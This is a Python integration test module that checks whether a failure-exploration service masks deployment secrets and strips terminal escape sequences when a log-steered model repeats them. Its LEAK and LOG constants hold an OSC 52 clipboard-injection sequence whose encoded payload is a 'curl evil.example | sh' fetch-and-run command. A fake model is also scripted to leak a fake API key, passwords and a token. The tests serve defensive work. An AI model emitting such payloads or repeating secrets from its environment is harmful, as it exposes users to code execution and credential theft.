"""A model steered by a build log repeats the deployment's secrets and writes escape sequences.

The explorer runs in real Celery workers against each provider's fake server
(Gemini, and an OpenAI-compatible one); the
model (the fake's brain) writes the model's API key, the console password and a
GitHub token into a turn's text, a tool call and its give-up reason, with
terminal escape sequences around them; the failure's log carries escape
sequences too. Nothing of it may come out in clear: not in SQL, not in Redis
(the task result the client and Flower read), not in what ``theow-client`` or
``theow failures show`` print, not on the console's failure page.

The module's tests share one fleet per provider (a resolver, an explorer and the
fake), started with the deployment's secrets as its settings: the model's key, the
console's passwords. Each test has a failure of its own; the exploration state and
the fake's records are cleared between tests.
"""

from __future__ import annotations

import json
import os
import random
import subprocess
import sys
from collections.abc import Iterator
from typing import Any

import pytest
import redis
from sqlalchemy import select

from tests.integration.conftest import (
    PROVIDERS,
    Explorers,
    Fleet,
    explorers_reset,
    shared_explorers,
)
from tests.unit.test_redact import CORPUS
from theow_workers.config import Settings
from theow_workers.store.schema import ExplorationRow

pytestmark = pytest.mark.integration

# The model's API key (GEMINI_API_KEY, or THEOW_LLM_API_KEY for an OpenAI-compatible one).
MODEL_KEY = "AIzaSy-model-text-key-0123456789abcdef"
WEB_PASSWORD = "console-reviewer-passphrase-7731"
READONLY_PASSWORD = "console-reader-passphrase-5519"
GITHUB_TOKEN = "ghp_" + "a1B2c3D4" * 4 + "e5F6"
SECRETS = (MODEL_KEY, WEB_PASSWORD, GITHUB_TOKEN)
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
CLEAR = "\x1b[2J"
LEAK = (
    f"{CLIPBOARD}{CLEAR}I read the environment: GEMINI_API_KEY is {MODEL_KEY}, the console"
    f" password is {WEB_PASSWORD} and the token {GITHUB_TOKEN}"
)
LOG = f"step 3\n{CLIPBOARD}ERROR: component leaky failed: code=3{CLEAR}\n"


@pytest.fixture(scope="module", params=PROVIDERS)
def secret_fleet(
    request, tmp_path_factory, redis_url, milvus_uri
) -> Iterator[tuple[Fleet, Explorers]]:
    """A resolver and an explorer on ``provider``'s fake, the deployment's secrets set."""
    base = tmp_path_factory.mktemp(f"secrets-{request.param}")
    with shared_explorers(
        base, redis_url, milvus_uri, request.param, count=1, key=MODEL_KEY,
        THEOW_WEB_PASSWORD=WEB_PASSWORD, THEOW_WEB_READONLY_PASSWORD=READONLY_PASSWORD,
    ) as running:  # fmt: skip
        yield running


@pytest.fixture
def fleet(secret_fleet) -> Fleet:
    return secret_fleet[0]


@pytest.fixture
def any_explorers(secret_fleet) -> Iterator[Explorers]:
    """The module's explorers, with nothing left of the tests before."""
    fleet, found = secret_fleet
    explorers_reset(fleet, found)
    yield found


def leaking(wire: Any) -> Any:
    """A brain that says the secrets in a turn and a tool call, then gives up with them."""

    def brain(model: str, body: dict[str, Any]) -> dict[str, Any]:
        if not wire.function_responses(body):
            draft = f"name: leak\ndescription: {LEAK}\nwhen: []\n"
            return wire.combine(wire.text(LEAK), wire.function_call("test_rule", rule_yaml=draft))
        return wire.function_call("give_up", reason=LEAK)

    return brain


def assert_masked(where: str, shown: str) -> None:
    for secret in SECRETS:
        assert secret not in shown, f"{where} shows {secret[:12]}… in clear"


def test_secrets_a_model_repeats_are_masked_wherever_its_reason_and_transcript_go(
    fleet, any_explorers, tmp_path
):
    fake = any_explorers.fake
    fake.brain = leaking(fake.wire)
    with fleet.store().session() as s:
        explored_before = set(s.execute(select(ExplorationRow.failure_id)).scalars())
    broker = redis.Redis.from_url(fleet.settings.redis_url)
    # What the module's earlier tests left in Redis (their own failures' logs): unchanged
    # keys are theirs; every key this test writes or changes is searched below.
    earlier = {key: broker.dump(key) for key in broker.keys("*")}
    facts = tmp_path / "facts.json"
    facts.write_text(json.dumps({"stderr": LOG, "job": "leaky-job"}))
    client = subprocess.run(
        [sys.executable, "-m", "theow_client.cli", "--redis-url", fleet.settings.redis_url,
         "--spool-dir", str(tmp_path / "spool"), "submit", "--facts-file", str(facts),
         "--explore", "--wait", "--timeout", "90"],
        capture_output=True, text=True, timeout=120, env=os.environ,
    )  # fmt: skip
    assert "exploration: gave_up" in client.stdout, client.stdout + client.stderr
    assert "[masked:" in client.stdout  # the reason is there, masked
    assert_masked("theow-client's output", client.stdout + client.stderr)
    assert "\x1b" not in client.stdout + client.stderr

    with fleet.store().session() as s:
        query = select(ExplorationRow).where(ExplorationRow.failure_id.not_in(explored_before))
        row = s.execute(query).scalar_one()
        stored = row.reason + json.dumps(row.transcript)
        failure_id = row.failure_id
    assert "[masked:deployment-secret]" in row.reason
    assert any(t.get("role") == "model" and "[masked:" in t.get("text", "") for t in row.transcript)
    assert_masked("SQL", stored)

    # Every key in Redis: the task result the client and Flower read, the explore state.
    try:
        for key in broker.keys("*"):
            if key in earlier and broker.dump(key) == earlier[key]:
                continue  # an earlier test's, untouched by this one
            kind = broker.type(key)
            if kind in (b"string", "string"):
                assert_masked(f"Redis {key!r}", str(broker.get(key)))
            elif kind in (b"hash", "hash"):
                assert_masked(f"Redis {key!r}", str(broker.hgetall(key)))
            elif kind in (b"list", "list"):
                assert_masked(f"Redis {key!r}", str(broker.lrange(key, 0, -1)))
    finally:
        broker.close()

    shown = subprocess.run(
        [sys.executable, "-m", "theow_workers.cli", "failures", "show", failure_id],
        capture_output=True, text=True, timeout=120, env=os.environ,
    )  # fmt: skip
    assert "exploration gave_up" in shown.stdout, shown.stdout + shown.stderr
    assert "component leaky failed" in shown.stdout
    assert_masked("theow failures show", shown.stdout)
    assert "\x1b" not in shown.stdout

    assert_masked("the console's failure page", failure_page(failure_id))


def test_no_secret_of_any_format_the_client_or_detect_secrets_knows_reaches_the_model(
    fleet, any_explorers
):
    """A log holding a secret of every format of the masking corpus and the model's own key:
    the model reads it in the prompt and through read_log, and the fake server's every
    request is searched."""
    fake = any_explorers.fake
    wire = fake.wire
    lines, secrets = [], []
    for name, make in sorted(CORPUS.formats().items()):
        line, found = make(random.Random(name))
        lines.append(line)
        secrets += found
    # And the deployment's own secret, the model's key, which only the worker knows.
    lines.append(f"+ curl -H 'x-key: {MODEL_KEY}' http://llm.internal/v1/models")
    secrets.append(MODEL_KEY)
    log = "\n".join(["step 1", *lines, "ERROR: component leaky failed: code=3"]) + "\n"

    def reader(model: str, body: dict[str, Any]) -> dict[str, Any]:
        if not wire.function_responses(body):
            return wire.function_call("read_log", start_line=0, lines=500)
        return wire.function_call("give_up", reason="read it all")

    fake.brain = reader
    ticket = fleet.client().submit({"stderr": log, "job": "leaky-job"}, explore=True)
    assert ticket.wait_exploration(120)["outcome"] == "gave_up"

    sent = json.dumps(fake.requests)
    (answer,) = wire.function_responses(fake.bodies()[-1])
    assert "component leaky failed" in json.dumps(answer)  # the log was read, whole
    assert len(secrets) > 100
    leaked = [s for s in secrets if s in sent]
    assert leaked == [], f"{len(leaked)} secrets reached the model: {leaked[:3]}"


def failure_page(failure_id: str) -> str:
    """The failure's page as the read-only console user sees it."""
    from starlette.testclient import TestClient

    from theow_workers.web.app import create_app

    settings = Settings.load(env=dict(os.environ))
    with TestClient(create_app(settings), base_url="http://127.0.0.1") as http:
        login = http.post(
            "/login",
            data={"name": "reader", "password": READONLY_PASSWORD, "next": "/"},
            headers={"origin": "http://127.0.0.1"},
            follow_redirects=False,
        )
        assert login.status_code == 303, login.text
        page = http.get(f"/failures/{failure_id}", headers={"accept": "text/html"})
        assert page.status_code == 200
        assert "masked" in page.text
        return page.text


def test_no_secret_of_any_format_reaches_the_model_through_explain(
    fleet, any_explorers, monkeypatch, minilm
):
    """explain's prompt is the failure's where lines and the lines around its error lines:
    here every line of the masking corpus is an error line of some failure, one cause each,
    and every request either fake server got is searched."""
    from tests.integration.test_explain import _Stack
    from theow_client.messages import SubmitRequest
    from theow_workers.explainer import explain_failure

    fake = any_explorers.fake
    wire = fake.wire
    monkeypatch.setenv("THEOW_EXPLAIN", "on")
    stack = _Stack(fleet, any_explorers, monkeypatch, minilm)
    fake.brain = lambda model, body: wire.text(
        '{"explanation": "A credential was rejected.", "cause": "infrastructure",'
        ' "next_step": "Rotate it."}'
    )
    lines, secrets = [], []
    for name, make in sorted(CORPUS.formats().items()):
        line, found = make(random.Random(name))
        lines.append(f"error: rejected: {line}")
        secrets += found
    lines.append(f"error: rejected: curl -H 'x-key: {MODEL_KEY}' http://llm/v1")
    secrets.append(MODEL_KEY)
    chunks = [lines[i : i + 3] for i in range(0, len(lines), 3)]
    for n, chunk in enumerate(chunks):
        failure_id = f"{stack.project}-secret-{n}"
        log = "\n".join([f"step {n}", *chunk, f"error: deploy stage {n} failed"]) + "\n"
        request = SubmitRequest(failure_id=failure_id, facts={"log": log})
        stack.runtime.service.resolve(request, failure_id)
        assert explain_failure(stack.runtime, {"failure_id": failure_id})["state"] == "explained"

    prompts = [text for body in fake.bodies() for text in wire.user_texts(body)]
    assert len(prompts) == len(chunks)  # one call per failure: each is a cause of its own
    assert all("rejected:" in p for p in prompts)  # the secrets' lines were in each prompt
    sent = json.dumps(fake.requests)
    assert len(secrets) > 100
    leaked = [s for s in secrets if s in sent]
    assert leaked == [], f"{len(leaked)} secrets reached the model through explain: {leaked[:3]}"
